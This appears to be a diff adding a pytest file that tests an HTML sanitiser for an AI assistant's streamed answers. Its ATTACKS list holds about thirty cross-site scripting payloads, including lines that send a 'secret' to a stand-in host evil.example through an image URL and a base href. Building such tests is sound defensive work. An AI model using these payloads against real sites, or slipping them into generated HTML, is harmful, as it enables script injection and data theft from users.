@@ -1,0 +1,149 @@
+"""The HTML that an answer may hold."""
+
+import os
+from html.parser import HTMLParser
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from assistant.completion.shield import Mask, MaskingRules, StreamText, finish_text
+from assistant.completion.shield.sanitising import safe_html
+from tests.assistant.completion.shield.building import streamed
+
+ATTACKS = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    '<a href="javascript:alert(1)">x</a>',
+    '<a href=" java\tscript:alert(1)">x</a>',
+    '<a href="&#106;avascript:alert(1)">x</a>',
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<style>p{background:url(x)}</style>",
+    '<p style="background:url(https://evil.example)">x</p>',
+    "<p onclick=alert(1)>x</p>",
+    "<object data=x></object>",
+    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+    "<form action=x><input></form>",
+    "<base href=//evil.example>",
+    "<<script>script>alert(1)<</script>/script>",
+    "<scr<script>ipt>alert(1)</script>",
+    "<!--><img src=x onerror=alert(1)>-->",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<textarea></textarea><img src=x onerror=alert(1)>",
+    '<p title="<img src=x onerror=alert(1)>">x</p>',
+    "<a href='x' onmouseover='alert(1)' x=\"",
+    "<plaintext><b>x",
+    '<img src="https://evil.example/?q=secret">',
+    "<a\nhref\n=\njavascript:alert(1)>x</a>",
+    "<x-a href=y>z</x-a>",
+    "<template><script>alert(1)</script></template>",
+    "<p/onclick=alert(1)>x",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+]
+FORBIDDEN = {"script", "svg", "math", "iframe", "style", "object", "form", "input", "base", "template", "textarea"}
+DRAFTS = ["<p>x</p>", '<p class="a" style="color:red" title="t">x</p><img src="https://example.com/l.png" alt="">']
+FRAGMENTS = st.lists(
+    st.sampled_from(ATTACKS)
+    | st.sampled_from(
+        ["<p>", "</p>", "<b", ">", "<", "&", "&amp", ";", '"', "'", "=", "<!--", "-->", " x ", "<td>", "/"]
+    ),
+    min_size=1,
+    max_size=8,
+).map("".join)
+
+
+class Findings(HTMLParser):
+    """What a browser would run or load in some HTML."""
+
+    def __init__(self, text: str) -> None:
+        super().__init__()
+        self.bad: list[str] = []
+        self.feed(text)
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        """Look at one tag."""
+        self.bad += [tag] if tag in FORBIDDEN else []
+        self.bad += [name for name, value in attrs if name.startswith("on") or not _is_safe(name, value or "")]
+
+
+def _is_safe(name: str, value: str) -> bool:
+    if name == "src":
+        return value == "https://example.com/l.png"
+    scheme = "".join(value.split()).lower().partition(":")[0]
+    return (name != "href" or scheme not in {"javascript", "data"}) and "url(" not in value
+
+
+@pytest.mark.parametrize("draft", DRAFTS)
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_an_attack_comes_to_nothing(attack: str, draft: str) -> None:
+    """In the whole answer and in its deltas; a picture must be one of the draft's."""
+    mask = Mask(MaskingRules())
+    finished = finish_text(f"<p>before</p>{attack}<p>after</p>", mask=mask, draft=draft, html=True)
+    shown = streamed(StreamText(mask, html=True, draft=draft), f"<p>before</p>{attack}<p>after</p>", [3, 1, 7])
+    for text in (finished.text, shown):
+        assert not Findings(text).bad
+        assert "evil.example" not in text
+        assert text.startswith("<p>before</p>")
+
+
+@settings(max_examples=150 * int(os.environ.get("EXAMPLES_FACTOR", "1")), deadline=None)
+@given(FRAGMENTS, st.sampled_from(DRAFTS), st.lists(st.integers(1, 9), min_size=1, max_size=4))
+def test_sanitising_twice_changes_nothing(text: str, draft: str, cuts: list[int]) -> None:
+    """And the deltas together are as they would be in one piece."""
+    once = safe_html(text, draft)
+    assert safe_html(once, draft) == once
+    mask = Mask(MaskingRules())
+    shown = streamed(StreamText(mask, html=True, draft=draft), text, cuts)
+    assert shown == streamed(StreamText(mask, html=True, draft=draft), text, [len(text)])
+    assert not Findings(shown).bad
+    assert not Findings(once).bad
+
+
+def test_tags_and_attributes_of_the_draft_stay() -> None:
+    """And those of any text; others lose their tags, not their words."""
+    draft = '<table><tr><td colspan="2" data-id="7">x</td></tr></table><font color="red">y</font>'
+    answer = '<table><tbody><tr><td colspan="2" data-id="7">x</td></tr></tbody></table><font color="red">y</font>'
+    assert safe_html(answer, draft) == answer
+    assert safe_html(answer, "<p>x</p>") == "xy"
+    assert safe_html("<ul><li><b>x</b></li></ul><h2>y</h2>", "x") == "<ul><li><b>x</b></li></ul><h2>y</h2>"
+
+
+def test_a_deltas_tag_leaves_whole_or_not_at_all() -> None:
+    """A table's cell needs no table around it to pass."""
+    stream = StreamText(Mask(MaskingRules()), html=True, draft='<table><tr><td colspan="2">x</td></tr></table>')
+    assert stream.feed("<ta") == ""
+    assert stream.feed("ble><tr><td colspan='2' onclick=x") == "<table><tr>"
+    assert stream.feed(">a <") == '<td colspan="2">a'
+    assert stream.feed("/td") == ""
+    assert stream.feed(">") == " </td>"
+
+
+def test_what_only_looks_like_a_tag_is_text() -> None:
+    """Nothing is held back for more than 4 KB, nor shown unescaped."""
+    stream = StreamText(Mask(MaskingRules()), html=True, draft="<p>x</p>")
+    shown = stream.feed("<a " + "x" * 4000)
+    assert shown == ""
+    assert stream.feed("y" * 200).startswith("&lt;a xxx")
+    assert stream.finish() == ""
+    assert (
+        StreamText(Mask(MaskingRules()), html=True, draft="<p>x</p>").feed("1 < 2 & 3 > 2.")
+        == "1 &lt; 2 &amp; 3 &gt; 2."
+    )
+
+
+def test_html_and_text_each_get_their_like() -> None:
+    """Whatever form the model chose."""
+    mask = Mask(MaskingRules())
+    assert finish_text("One\ntwo\n\nthree <3", mask=mask, draft="<p>x</p>", html=True).text == (
+        "<p>One<br>two</p><p>three &lt;3</p>"
+    )
+    html = (
+        '<p>Hello&nbsp;Ana,</p><ul><li>one</li><li>two</li></ul><p>see <a href="https://e.example">this</a><br>Tom</p>'
+    )
+    text = finish_text(html, mask=mask, draft="hello", html=False).text
+    assert text == "Hello\u00a0Ana,\n\n- one\n- two\n\nsee this (https://e.example)\nTom"
+    assert finish_text("use a < b and <name>", mask=mask, draft="x", html=False).text == "use a < b and <name>"
